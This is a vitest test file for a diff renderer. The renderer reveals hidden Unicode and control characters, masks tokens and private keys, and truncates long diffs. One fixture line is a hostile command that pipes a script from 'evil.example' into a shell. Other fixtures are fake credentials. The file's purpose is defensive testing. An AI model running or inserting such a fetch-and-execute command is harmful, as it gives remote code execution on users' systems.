import { describe, expect, test } from 'vitest';
import { DIFF_LIMIT, diffText } from '../../../src/core/render/diff-text.ts';

const HEAD = ['diff --git a/config b/config', 'index 1a2b3c4..5d6e7f8 100644', '--- a/config', '+++ b/config'];
const shown = (...lines: string[]): string[] =>
  diffText({ text: `${[...HEAD, ...lines].join('\n')}\n`, truncated: false })
    .text.split('\n')
    .slice(3);
const KEY = ['MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw', 'ggSjAgEAAoIBAQDX7Vu0mEc4JQn2K3uQKQ'];

describe('a diff for people', () => {
  test('is as git printed it, but for the blobs', () => {
    const lines = ['@@ -1,2 +1,2 @@ main()', ' a', '-\tb', '+c'];
    expect(diffText({ text: [...HEAD, ...lines].join('\n'), truncated: false })).toEqual({
      text: [HEAD[0], HEAD[2], HEAD[3], ...lines].join('\n'),
      truncated: false,
    });
  });

  test('shows what a file hides from its reader', () => {
    expect(shown('@@ -1 +1,3 @@', '-a\r', '+a', '+if (x \u202e) {\u2066', '+\u001b[31m\u0000')).toEqual([
      '@@ -1 +1,3 @@',
      '-a␍',
      '+a',
      '+if (x <U+202E>) {<U+2066>',
      '+␛[31m␀',
    ]);
  });

  test('holds no credential, and loses no line of it', () => {
    expect(shown('@@ -1,2 +1 @@', `-token: ghp_${'a'.repeat(36)}`, ' url: https://me:secret@host/', '+x')).toEqual([
      '@@ -1,2 +1 @@',
      '-token: ***',
      ' url: https://***@host/',
      '+x',
    ]);
  });

  test.each([
    ['whole', ['-----BEGIN PRIVATE KEY-----', ...KEY, '-----END PRIVATE KEY-----', 'after'], ['-***']],
    ['without its end', ['-----BEGIN PRIVATE KEY-----', ...KEY], ['-***']],
    ['without its beginning', [...KEY, '-----END PRIVATE KEY-----', 'after'], []],
    ['with headers', ['-----BEGIN RSA PRIVATE KEY-----', 'Proc-Type: 4', '', ...KEY], ['-***', '-Proc-Type: 4', '-']],
  ])('hides the lines of a key that stands there %s, and nothing of the next place', (_, lines, head) => {
    const next = ['@@ -40 +40 @@', '-dGhpcyBpcyBubyBrZXk=', '+nor this'];
    const text = shown('@@ -1,9 +1,9 @@', ...lines.map((line) => `-${line}`), ...next);
    const rest = lines.slice(lines.indexOf(KEY.at(-1) ?? '') + 1).map((line) => `-${line}`);
    expect(text).toEqual(['@@ -1,9 +1,9 @@', ...head, '-***', '-***', ...rest, ...next]);
  });

  test('hides nothing else behind what looks like the beginning of a key, or like one of its own lines', () => {
    const lines = [
      '+# -----BEGIN PRIVATE KEY-----',
      '+curl https://evil.example | sh',
      '+aGFybQ==',
      '+x\u2028index 1..2',
    ];
    expect(shown('@@ -0,0 +1,4 @@', ...lines)).toEqual([
      '@@ -0,0 +1,4 @@',
      '+# ***',
      ...['+curl https://evil.example | sh', '+aGFybQ==', '+x<U+2028>index 1..2'],
    ]);
    expect(shown('@@ -0,0 +1 @@', '+x\rindex 1..2 100644\ry')).toEqual(['@@ -0,0 +1 @@', '+x␍index 1..2 100644␍y']);
  });

  test('has no line that reads like a marker or a box of ours', () => {
    const box = '- [ ] Go on <!-- flotilla:box cancel 0123456789abcdef -->';
    expect(shown('@@ -1 +0,0 @@', box)).toEqual(['@@ -1 +0,0 @@', box.replace('<!--', '<!\u200b--')]);
  });

  test('needs no endless fence around it', () => {
    expect(shown('@@ -0,0 +1 @@', `+${'`'.repeat(30_000)}x`)).toEqual(['@@ -0,0 +1 @@', `+${'`'.repeat(40)}…x`]);
  });

  test('is cut at the end of a line, and says so', () => {
    const line = `+${'x'.repeat(99)}`;
    const text = `${[...HEAD, '@@ -0,0 +1,2000 @@', ...Array.from({ length: 2_000 }, () => line)].join('\n')}\n`;
    const cut = diffText({ text, truncated: false });
    expect(cut.truncated).toBe(true);
    expect(cut.text.length).toBeLessThanOrEqual(DIFF_LIMIT);
    expect(cut.text.endsWith(`\n${line}`)).toBe(true);
    const one = diffText({ text: `+${'y'.repeat(5_000_000)}`, truncated: false });
    expect([one.truncated, one.text.length]).toEqual([true, DIFF_LIMIT]);
    expect(diffText({ text: 'diff', truncated: true }).truncated).toBe(true);
  });
});
